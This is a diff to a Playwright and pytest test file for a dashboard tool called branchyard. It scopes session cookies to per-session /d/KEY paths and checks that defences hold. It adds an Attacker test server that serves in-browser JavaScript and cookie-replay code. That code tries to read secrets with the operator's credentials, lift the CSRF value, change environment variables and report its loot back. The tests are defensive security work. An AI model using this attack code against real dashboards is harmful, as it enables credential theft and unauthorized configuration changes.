@@ -13,15 +13,32 @@ import json
 import os
 import re
 import shutil
+import threading
 from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
 import pytest
 from playwright.sync_api import Browser, Page, ViewportSize, expect, sync_playwright
 
-from branchyard.sessions import CODE_SECONDS, SESSION_SECONDS, Sessions
-from tests.conftest import SERVICE, Daemon, ServiceRepo, git, stdlib_service, wait_for
+from branchyard.sessions import (
+    CODE_SECONDS,
+    COOKIE_PREFIX,
+    SESSION_SECONDS,
+    Sessions,
+    cookie_values,
+    under_key,
+)
+from tests.conftest import (
+    SERVICE,
+    Daemon,
+    ServiceRepo,
+    free_port,
+    git,
+    stdlib_service,
+    wait_for,
+)
 
 CHROMIUM = "/usr/bin/chromium"
 CHROMIUM_ARGS = [
@@ -71,17 +88,24 @@ def api_base(daemon: Daemon) -> str:
     return str(daemon.info["api"])
 
 
-def api(daemon: Daemon, method: str, path: str, token: str | None = None) -> tuple[int, Any]:
-    port = int(daemon.info["api"].rsplit(":", 1)[1])
-    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
-    token = token if token is not None else (daemon.home / "token").read_text().strip()
+def send(
+    base: str, method: str, path: str, headers: dict[str, str], body: str | None = None
+) -> tuple[int, str]:
+    """(status, body) of one request to ``base`` (``http://HOST:PORT``), as given."""
+    host, port = base.removeprefix("http://").rsplit(":", 1)
+    connection = http.client.HTTPConnection(host, int(port), timeout=10)
     try:
-        connection.request(method, path, headers={"Authorization": f"Bearer {token}"})
+        connection.request(method, path, body, headers)
         response = connection.getresponse()
-        raw = response.read()
-        return response.status, json.loads(raw) if raw else None
+        return response.status, response.read().decode()
     finally:
         connection.close()
+
+
+def api(daemon: Daemon, method: str, path: str, token: str | None = None) -> tuple[int, Any]:
+    token = token if token is not None else (daemon.home / "token").read_text().strip()
+    status, raw = send(api_base(daemon), method, path, {"Authorization": f"Bearer {token}"})
+    return status, json.loads(raw) if raw else None
 
 
 def login_code(daemon: Daemon) -> str:
@@ -91,10 +115,20 @@ def login_code(daemon: Daemon) -> str:
     return str(body["code"])
 
 
-def log_in(page: Page, daemon: Daemon) -> None:
-    page.goto(f"{api_base(daemon)}/login?code={login_code(daemon)}")
-    expect(page).to_have_url(re.compile(r"/$"))
+UNDER_KEY = r"/d/[\w-]{32}/"  # where a session's pages are (its cookie's Path)
+
+
+def log_in(page: Page, daemon: Daemon, base: str | None = None) -> str:
+    """Log ``page`` in at ``base`` (the API's address unless given); the session's root."""
+    page.goto(f"{base or api_base(daemon)}/login?code={login_code(daemon)}")
+    expect(page).to_have_url(re.compile(UNDER_KEY + "$"))
     expect(page.get_by_role("heading", name="Environments")).to_be_visible()
+    return root(page)
+
+
+def root(page: Page) -> str:
+    """The ``/d/KEY`` the page's links and calls start with."""
+    return str(page.locator("body").get_attribute("data-root"))
 
 
 def cell(page: Page, namespace: str, service: str) -> Any:
@@ -311,8 +345,8 @@ def test_the_env_editor_keeps_multi_line_values_and_refuses_to_overwrite_a_newer
     register(daemon, make_repo("app"))
     wait_for(lambda: daemon.ps_q() == ["main:app"], 30, "main:app")
     daemon.cli("env", "set", "app", "DSN=host=db\nsslmode=require", 'QUOTED="as typed"')
-    log_in(page, daemon)
-    page.goto(f"{api_base(daemon)}/ns/main/app")
+    at = log_in(page, daemon)
+    page.goto(f"{api_base(daemon)}{at}/ns/main/app")
     editor = page.locator("#env-text")
     dsn, quoted = 'DSN="host=db\\nsslmode=require"\n', 'QUOTED="\\"as typed\\""\n'
     shown = dsn + quoted
@@ -355,9 +389,10 @@ def test_a_wrong_token_or_login_code_is_refused(daemon: Daemon, page: Page) -> N
 
     code = login_code(daemon)
     page.goto(f"{base}/login?code={code}")
-    expect(page).to_have_url(f"{base}/")
+    expect(page).to_have_url(re.compile(f"^{re.escape(base)}{UNDER_KEY}$"))
     cookie = page.context.cookies()[0]
     assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
+    assert cookie["path"] == f"{root(page)}/"
     page.context.clear_cookies()
     answer = page.goto(f"{base}/login?code={code}")  # once only
     assert answer is not None and answer.status == 401
@@ -372,25 +407,27 @@ def test_a_wrong_token_or_login_code_is_refused(daemon: Daemon, page: Page) -> N
     page.locator("#token").fill((daemon.home / "token").read_text().strip())
     page.get_by_role("button", name="Log in").click()
     expect(page.get_by_role("heading", name="Environments")).to_be_visible()
+    at = f"{base}{root(page)}"
 
-    # The session cookie works for the API, but a change also needs the page's CSRF value.
-    assert page.request.get(f"{base}/api/info").status == 200
-    refused = page.request.post(f"{base}/api/dashboard/login-code")
+    # The session cookie works for the API (under its key), but a change also needs the
+    # page's CSRF value.
+    assert page.request.get(f"{at}/api/info").status == 200
+    refused = page.request.post(f"{at}/api/dashboard/login-code")
     assert refused.status == 403 and refused.json()["error"] == "csrf"
     csrf = page.locator('meta[name="branchyard-csrf"]').get_attribute("content") or ""
     allowed = page.request.post(
-        f"{base}/api/dashboard/login-code", headers={"X-Branchyard-CSRF": csrf}
+        f"{at}/api/dashboard/login-code", headers={"X-Branchyard-CSRF": csrf}
     )
     assert allowed.status == 200
     wrong = page.request.post(
-        f"{base}/api/dashboard/login-code", headers={"X-Branchyard-CSRF": csrf + "x"}
+        f"{at}/api/dashboard/login-code", headers={"X-Branchyard-CSRF": csrf + "x"}
     )
     assert wrong.status == 403
 
     # A rotated token ends every session.
     daemon.cli("token", "rotate")
-    assert page.request.get(f"{base}/api/info").status == 401
-    page.goto(f"{base}/")
+    assert page.request.get(f"{at}/api/info").status == 401
+    page.goto(f"{at}/")
     expect(page).to_have_url(f"{base}/login")
 
 
@@ -401,12 +438,240 @@ def test_branchyard_dashboard_prints_a_link_for_the_routers_own_address(
     link = daemon.cli("dashboard").stdout.strip()
     assert re.fullmatch(rf"http://localhost:{daemon.router_port}/login\?code=[\w-]+", link)
     page.goto(link)
-    expect(page).to_have_url(f"http://localhost:{daemon.router_port}/")
+    expect(page).to_have_url(re.compile(f"^http://localhost:{daemon.router_port}{UNDER_KEY}$"))
     expect(page.get_by_role("heading", name="Environments")).to_be_visible()
     expect(page.locator(".empty")).to_contain_text("branchyard repo add")
     # A service's address still goes to the service (here: none yet, so 404 from the router).
     status, _ = daemon.get(f"nothing.main.localhost:{daemon.router_port}")
     assert status == 404
+
+
+SECRET = "hunter2-never-leaves"
+ENV_PATH = "/api/namespaces/main/services/app/env"
+# What the attacker's page tries in the operator's browser: read the secrets and the page
+# (with its CSRF value), change main's env (with and without a preflight), then send the
+# browser to show_secrets by a redirect.
+ATTACK_SCRIPT = """
+(async () => {
+  const env = DASHBOARD + ENV_PATH;
+  const change = JSON.stringify({ set: { GREETING: "owned" } });
+  const tries = {
+    secrets: () => fetch(env + "?show_secrets=true", { credentials: "include" })
+      .then((r) => r.text()),
+    page: () => fetch(DASHBOARD + "/", { credentials: "include" }).then((r) => r.text()),
+    patch: () => fetch(env, {
+      method: "PATCH", credentials: "include", body: change,
+      headers: { "Content-Type": "application/json", "X-Branchyard-CSRF": "guessed" },
+    }).then((r) => r.status),
+    post: () => fetch(env, {
+      method: "POST", mode: "no-cors", credentials: "include", body: change,
+      headers: { "Content-Type": "text/plain" },
+    }).then((r) => r.type),
+  };
+  const said = {};
+  for (const [name, run] of Object.entries(tries)) {
+    try { said[name] = String(await run()); } catch (error) { said[name] = "refused: " + error; }
+  }
+  await fetch("/report", { method: "POST", body: JSON.stringify(said) });
+  location.href = "/bounce";
+})();
+"""
+
+
+class Attacker(ThreadingHTTPServer):
+    """A plain HTTP server on another loopback port, standing in for the router's port
+    that leads to pushed code (``http://localhost:PEER/``), where a service's redirect
+    sends the operator's browser. It keeps everything the browser sends it; with a
+    session cookie it does what the box did: takes the CSRF value from the dashboard's
+    page, reads the secrets and changes main's env. It also sets a cookie of the
+    session's name on ``/d/``, as any port of the host may."""
+
+    def __init__(self, host: str, dashboard: str) -> None:
+        self.dashboard = dashboard
+        self.cookie_name = COOKIE_PREFIX + dashboard.rsplit(":", 1)[1]
+        self.received: list[str] = []  # every request's line, headers and body
+        self.sessions: list[str] = []  # the session cookies among them, not its own
+        self.loot: list[str] = []  # what it got from the dashboard with one
+        self.origin = f"http://{host}:{free_port()}"
+        super().__init__(("127.0.0.1", int(self.origin.rsplit(":", 1)[1])), _AttackerHandler)
+
+    def heard(self, handler: BaseHTTPRequestHandler, body: str = "") -> None:
+        self.received.append(f"{handler.requestline}\n{handler.headers}{body}")
+        for value in cookie_values(handler.headers.get("Cookie", ""), self.cookie_name):
+            if value != "tossed":
+                self.sessions.append(value)
+                self.steal(f"{self.cookie_name}={value}")
+
+    def steal(self, cookie: str) -> None:
+        _, page = send(self.dashboard, "GET", "/", {"Cookie": cookie})
+        found = re.search(r'name="branchyard-csrf" content="([^"]+)"', page)
+        csrf = {"X-Branchyard-CSRF": found[1]} if found else {}
+        self.loot.append(
+            send(self.dashboard, "GET", f"{ENV_PATH}?show_secrets=true", {"Cookie": cookie})[1]
+        )
+        change = json.dumps({"set": {"GREETING": "owned"}})
+        headers = {"Cookie": cookie, "Content-Type": "application/json", **csrf}
+        self.loot.append(send(self.dashboard, "PATCH", ENV_PATH, headers, change)[1])
+
+
+class _AttackerHandler(BaseHTTPRequestHandler):
+    server: Attacker
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+    def answer(self, status: int, body: str = "", **headers: str) -> None:
+        self.send_response(status)
+        for name, value in headers.items():
+            self.send_header(name.replace("_", "-"), value)
+        self.send_header("Content-Length", str(len(body.encode())))
+        self.end_headers()
+        self.wfile.write(body.encode())
+
+    def do_GET(self) -> None:
+        self.server.heard(self)
+        if self.path == "/bounce":
+            self.answer(303, Location=f"{self.server.dashboard}{ENV_PATH}?show_secrets=true")
+            return
+        script = f"const DASHBOARD = {json.dumps(self.server.dashboard)};\n"
+        script += f"const ENV_PATH = {json.dumps(ENV_PATH)};\n{ATTACK_SCRIPT}"
+        self.answer(
+            200,
+            f'<!doctype html><link rel="icon" href="data:,"><script>{script}</script>',
+            Content_Type="text/html",
+            Set_Cookie=f"{self.server.cookie_name}=tossed; Path=/d/",
+        )
+
+    def do_POST(self) -> None:
+        length = int(self.headers.get("Content-Length", "0"))
+        self.server.heard(self, self.rfile.read(length).decode(errors="replace"))
+        self.answer(204)
+
+
+def with_a_secret(daemon: Daemon, make_repo: Callable[..., ServiceRepo]) -> None:
+    """app in main, with GREETING=hello and the secret DB_PASSWORD."""
+    register(daemon, make_repo("app"))
+    wait_for(lambda: daemon.ps_q() == ["main:app"], 30, "main:app")
+    daemon.cli("env", "set", "app", "GREETING=hello")
+    daemon.cli("env", "set", "--secret", "app", f"DB_PASSWORD={SECRET}")
+
+
+@pytest.mark.integration
+@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"])
+def test_a_page_on_another_loopback_port_gets_no_session_and_changes_nothing(
+    daemon: Daemon, make_repo: Callable[..., ServiceRepo], page: Page, host: str
+) -> None:
+    with_a_secret(daemon, make_repo)
+    dashboard = f"http://{host}:{daemon.router_port}"  # where `branchyard dashboard` sends one
+    at = log_in(page, daemon, dashboard)
+
+    attacker = Attacker(host, dashboard)
+    serving = threading.Thread(target=attacker.serve_forever)
+    serving.start()
+    try:
+        page.goto(f"{attacker.origin}/")  # where a service's redirect sent the browser
+        page.wait_for_url(re.compile(re.escape(f"{dashboard}{ENV_PATH}?show_secrets")))
+    finally:
+        attacker.shutdown()
+        serving.join()
+        attacker.server_close()
+
+    assert [r.split(" ", 2)[1] for r in attacker.received] == ["/", "/report", "/bounce"]
+    assert attacker.sessions == [], "a server on another port got the session cookie"
+    assert attacker.loot == []
+    assert not any(SECRET in text for text in attacker.received)
+    assert SECRET not in page.content()  # the redirect to show_secrets got a 401
+    assert "GREETING=hello" in daemon.cli("env", "ls", "app").stdout
+    assert "owned" not in daemon.cli("env", "ls", "app").stdout
+    # The cookie it set on /d/ is sent to the dashboard beside the session's own, which
+    # still counts.
+    assert any(c["value"] == "tossed" for c in page.context.cookies())
+    page.goto(f"{dashboard}{at}/")
+    expect(page.get_by_role("heading", name="Environments")).to_be_visible()
+
+
+@pytest.mark.integration
+def test_a_session_cookie_opens_nothing_without_its_own_key_and_never_reads_secrets(
+    daemon: Daemon, make_repo: Callable[..., ServiceRepo], browser: Browser, page: Page
+) -> None:
+    with_a_secret(daemon, make_repo)
+    base = api_base(daemon)
+    at = log_in(page, daemon)
+    cookie = next(c for c in page.context.cookies() if c["name"].startswith(COOKIE_PREFIX))
+    held = {"Cookie": f"{cookie['name']}={cookie['value']}"}
+    csrf = page.locator('meta[name="branchyard-csrf"]').get_attribute("content") or ""
+    elsewhere = browser.new_context()
+    theirs = log_in(elsewhere.new_page(), daemon)
+    elsewhere.close()
+
+    status, body = send(base, "GET", f"{at}{ENV_PATH}", held)
+    assert status == 200 and json.loads(body)["secrets"] == {"DB_PASSWORD": "********"}
+    refused = [
+        ("GET", ENV_PATH, 401),  # no key: the API
+        ("GET", "/", 303),  # no key: a page, sent to log in
+        ("GET", "/ns/main/app", 303),
+        ("GET", "/?part=live", 401),
+        ("GET", f"{theirs}{ENV_PATH}", 401),  # another session's key
+        ("GET", f"{theirs}/", 303),
+        ("GET", f"/d/{'x' * 32}{ENV_PATH}", 401),  # a made-up one
+        ("PATCH", ENV_PATH, 401),
+    ]
+    for method, path, expected in refused:
+        status, body = send(base, method, path, {**held, "X-Branchyard-CSRF": csrf})
+        assert status == expected, (method, path, status)
+        assert SECRET not in body and "branchyard-csrf" not in body
+    for asking in ({}, {"X-Branchyard-CSRF": csrf}):  # under its key, CSRF value or not
+        status, body = send(base, "GET", f"{at}{ENV_PATH}?show_secrets=true", {**held, **asking})
+        assert (status, json.loads(body)["error"]) == (403, "forbidden")
+        assert SECRET not in body
+    assert api(daemon, "GET", f"{ENV_PATH}?show_secrets=true")[1]["secrets"] == {
+        "DB_PASSWORD": SECRET
+    }
+    assert "owned" not in daemon.cli("env", "ls", "app").stdout
+
+    page.get_by_role("button", name="Log out").click()
+    expect(page).to_have_url(f"{base}/login")
+    assert [c for c in page.context.cookies() if c["name"] == cookie["name"]] == []
+    assert send(base, "GET", f"{at}{ENV_PATH}", held)[0] == 401  # the session ended
+
+
+@pytest.mark.parametrize(
+    ("path", "found"),
+    [
+        (f"/d/{'k' * 32}/", ("k" * 32, "/")),
+        (f"/d/{'k' * 32}/api/info", ("k" * 32, "/api/info")),
+        (f"/d/{'A-_9' * 8}/ns/main/app", ("A-_9" * 8, "/ns/main/app")),
+        (f"/d/{'k' * 32}", None),  # Path=/d/KEY/ is not sent here
+        (f"/d/{'k' * 31}/", None),
+        (f"/d/{'k' * 33}/", None),
+        (f"/d/{'k' * 31}./", None),
+        (f"/x/d/{'k' * 32}/", None),
+        ("/api/info", None),
+        ("/", None),
+    ],
+)
+def test_a_path_is_under_a_session_key_only_as_d_key_slash(
+    path: str, found: tuple[str, str] | None
+) -> None:
+    assert under_key(path) == found
+
+
+@pytest.mark.parametrize(
+    ("header", "values"),
+    [
+        ("branchyard_session_7080=mine", ["mine"]),
+        ("a=1; branchyard_session_7080=mine; branchyard_session_7080=tossed", ["mine", "tossed"]),
+        ("branchyard_session_70800=other; xbranchyard_session_7080=no", []),
+        ("branchyard_session_7080", []),
+        (" branchyard_session_7080 = spaced ", ["spaced"]),
+        ("branchyard_session_7080=a=b", ["a=b"]),
+        ("", []),
+    ],
+)
+def test_each_value_a_cookie_header_gives_the_session_name_is_found(
+    header: str, values: list[str]
+) -> None:
+    assert cookie_values(header, "branchyard_session_7080") == values
 
 
 def test_a_login_code_works_once_and_only_for_five_minutes() -> None:
